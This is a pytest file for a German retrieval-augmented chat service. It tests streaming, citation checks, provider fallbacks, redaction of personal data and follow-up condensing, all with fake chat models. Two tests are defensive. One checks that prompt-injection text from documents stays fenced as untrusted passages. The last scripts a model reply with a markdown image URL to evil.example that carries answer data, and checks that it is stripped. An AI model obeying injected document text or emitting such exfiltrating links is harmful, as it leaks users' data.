"""The LLM path of the chat with LangChain's fake chat models (real retrieval underneath):
streaming, citation post-check, fallbacks, redaction for external endpoints, the
condensing step, and injected text staying inside the untrusted passages."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import openai
import pytest
from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGenerationChunk, ChatResult
from pydantic import Field

from chains.answering import INSTRUCTION_FLAG, ChatService
from core.domain import ChatTurn
from tests import chat_support as cs
from tests.chat_support import ChatWorld, world

__all__ = ["world"]
pytestmark = pytest.mark.slow

LOCAL = {"llm_provider": "openai", "llm_base_url": "http://127.0.0.1:8080/v1", "llm_model": "fake"}
EXTERNAL = {
    "llm_provider": "openai",
    "llm_base_url": "https://llm.example.com/v1",
    "llm_model": "fake",
    "redact_names": [cs.PERSON],
}


class RecordingFake(GenericFakeChatModel):
    """Streams the scripted replies word by word and keeps every prompt it was given."""

    seen: list[list[BaseMessage]] = Field(default_factory=list)

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        self.seen.append(list(messages))  # invoke() and stream() both come through here
        return super()._generate(messages, stop, run_manager, **kwargs)


class FailingFake(RecordingFake):
    """Sends one token, then fails like a provider does (invoke() fails at once)."""

    error: Exception

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        raise self.error

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> Iterator[ChatGenerationChunk]:
        self.seen.append(list(messages))
        yield ChatGenerationChunk(message=AIMessageChunk(content="Teilantwort "))
        raise self.error


def fake(*replies: str) -> RecordingFake:
    return RecordingFake(messages=iter([AIMessage(content=r) for r in replies]))


def chat_with(
    world: ChatWorld, model: Any, workspace: str = "clean", **overrides: Any
) -> ChatService:
    base = world.chat(workspace, **overrides)
    return ChatService(base.retriever, base.settings, scorer=base.scorer, chat_model=model)


def test_llm_answer_streams_and_invented_citations_are_removed(world: ChatWorld) -> None:
    model = fake("Die Protokolle werden nach 30 Tagen gelöscht [1]. Siehe auch [7].")
    stream = chat_with(world, model, **LOCAL).stream(cs.QUESTION_RETENTION_DE)
    pieces = list(stream)
    answer = stream.answer
    assert len(pieces) > 5, "tokens arrive one by one"
    assert "[7]" in "".join(pieces) and "[7]" not in answer.answer
    assert answer.answer == "Die Protokolle werden nach 30 Tagen gelöscht [1]. Siehe auch."
    assert answer.grounded and answer.provider == "openai"
    assert not answer.left_machine and not answer.redacted  # loopback server
    assert [(c.n, c.source, c.page) for c in answer.citations] == [
        (1, cs.POLICY_PDF, cs.RETENTION_PAGE)
    ]
    assert answer.notice and "[7]" in answer.notice


def test_llm_answer_without_valid_citation_is_flagged_ungrounded(world: ChatWorld) -> None:
    answer = chat_with(world, fake("Das steht nicht in den Unterlagen."), **LOCAL).ask(
        cs.QUESTION_RETENTION_DE
    )
    assert not answer.grounded
    assert answer.citations == () and answer.possibly_related
    assert answer.notice and "keine gültige Quelle" in answer.notice


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (openai.APITimeoutError(httpx.Request("POST", "http://x")), "Zeitüberschreitung"),
        (openai.APIConnectionError(request=httpx.Request("POST", "http://x")), "keine Verbindung"),
        (
            openai.RateLimitError(
                "limit",
                response=httpx.Response(429, request=httpx.Request("POST", "http://x")),
                body=None,
            ),
            "Anfragelimit",
        ),
    ],
)
def test_provider_failure_mid_stream_falls_back_to_the_offline_answer(
    world: ChatWorld, error: Exception, words: str
) -> None:
    model = FailingFake(messages=iter([]), error=error)
    stream = chat_with(world, model, **LOCAL).stream(cs.QUESTION_RETENTION_DE)
    text = "".join(stream)
    answer = stream.answer
    assert text.startswith("Teilantwort") and cs.RETENTION_SENTENCE in text
    assert answer.provider == "extractive" and answer.grounded
    assert answer.citations[0].page == cs.RETENTION_PAGE
    assert answer.notice and words in answer.notice and "offline" in answer.notice


def test_external_endpoint_receives_redacted_passages_and_says_so(world: ChatWorld) -> None:
    model = fake("Die Fachstelle Datenschutz hilft [1].")
    question = f"Wen frage ich, {cs.PERSON} oder die Fachstelle unter {cs.EMAIL}?"
    answer = chat_with(world, model, **EXTERNAL).ask(question)
    sent = "\n".join(str(m.content) for m in model.seen[0])
    for secret in (cs.EMAIL, cs.PHONE, cs.PERSON):
        assert secret not in sent
    assert "[E-MAIL]" in sent and "[NAME]" in sent
    assert answer.left_machine and answer.redacted and answer.provider == "openai"

    plain = fake("Die Fachstelle Datenschutz hilft [1].")
    chat_with(world, plain, **EXTERNAL, redact_personal_data=False).ask(question)
    assert cs.EMAIL in "\n".join(str(m.content) for m in plain.seen[0])


def test_injected_text_stays_inside_the_untrusted_passages(world: ChatWorld) -> None:
    model = fake("Helvetic Bot löscht Transkripte nach 60 Tagen [1].")
    answer = chat_with(world, model, "hostile", **LOCAL).ask(cs.QUESTION_INJECTION)
    system, human = model.seen[0]
    clean = fake("x [1]")
    chat_with(world, clean, "clean", **LOCAL).ask(cs.QUESTION_INJECTION)
    assert system.content == clean.seen[0][0].content, "the rules do not depend on documents"
    body = str(human.content)
    assert cs.INJECTION_SENTENCE in body
    inside = body[body.index("<passages>") : body.index("</passages>")]
    assert cs.INJECTION_SENTENCE in inside
    assert body.count("</passage>") == body.count("<passage ")  # the fake close was defused
    note = [c for c in answer.citations if c.source == cs.INJECTION_MD]
    assert note and INSTRUCTION_FLAG in note[0].flags


def test_follow_up_is_condensed_by_the_model(world: ChatWorld) -> None:
    standalone = "Was müssen Mitarbeitende tun, bevor sie Kundendaten in einen Cloud-Chatbot geben?"
    model = fake(standalone, "Sie anonymisieren die Kundendaten [1].")
    offline = world.chat().ask(cs.QUESTION_CLOUD)
    answer = chat_with(world, model, **LOCAL).ask(
        cs.QUESTION_FOLLOWUP, history=[ChatTurn(cs.QUESTION_CLOUD, offline)]
    )
    assert len(model.seen) == 2
    assert cs.QUESTION_CLOUD in str(model.seen[0][1].content)
    assert answer.question == standalone
    assert answer.grounded and answer.citations[0].page == cs.STAFF_PAGE


def test_condensing_failure_answers_offline_with_the_offline_resolution(
    world: ChatWorld,
) -> None:
    model = FailingFake(messages=iter([]), error=ConnectionRefusedError(111, "refused"))
    first = world.chat().ask(cs.QUESTION_CLOUD)
    answer = chat_with(world, model, **LOCAL).ask(
        cs.QUESTION_FOLLOWUP, history=[ChatTurn(cs.QUESTION_CLOUD, first)]
    )
    assert answer.provider == "extractive" and "Kundendaten" in answer.question
    assert answer.notice and "keine Verbindung" in answer.notice
    assert model.seen == []  # the condensing call failed, so no answer was requested


def test_unusable_provider_configuration_answers_offline_with_a_notice(
    world: ChatWorld,
) -> None:
    chat = world.chat(llm_provider="llamacpp", llm_model="/nicht/da.gguf")
    answer = chat.ask(cs.QUESTION_RETENTION_DE)
    assert answer.provider == "extractive" and answer.grounded
    assert answer.notice and "GGUF" in answer.notice
    assert not answer.left_machine


def test_unusable_provider_notice_reads_in_english(world: ChatWorld) -> None:
    """An English question gets the configuration problem in English, not German."""
    chat = world.chat(llm_provider="llamacpp", llm_model="/nicht/da.gguf")
    answer = chat.ask(cs.QUESTION_RETENTION_EN)
    assert answer.language == "en" and answer.provider == "extractive"
    assert answer.notice and "The language model (llamacpp) could not be used" in answer.notice
    assert "GGUF model file not found: '/nicht/da.gguf' (LOTSE_LLM_MODEL)." in answer.notice
    assert "nicht gefunden" not in answer.notice


def test_no_llm_call_when_the_workspace_has_no_basis(world: ChatWorld) -> None:
    model = fake("Gabelstapler werden jährlich gewartet [1].")
    answer = chat_with(world, model, **LOCAL).ask(cs.QUESTION_UNANSWERABLE)
    assert not answer.grounded and answer.provider == "extractive"
    assert model.seen == []


def test_an_image_in_the_llm_answer_is_never_shown_as_one(world: ChatWorld) -> None:
    # a model steered by a document asks the reader's browser to fetch a URL with data in it
    model = fake(
        "Die Protokolle werden nach 30 Tagen gelöscht [1]. "
        "![Logo](https://evil.example/p.png?q=Protokolle-30-Tage)"
    )
    stream = chat_with(world, model, **LOCAL).stream(cs.QUESTION_RETENTION_DE)
    shown = "".join(stream)
    answer = stream.answer
    assert "![" not in shown  # what the page renders while the model streams
    assert "![" not in answer.answer and "evil.example" not in answer.answer
    assert answer.answer.endswith("gelöscht [1]. Logo") and answer.grounded
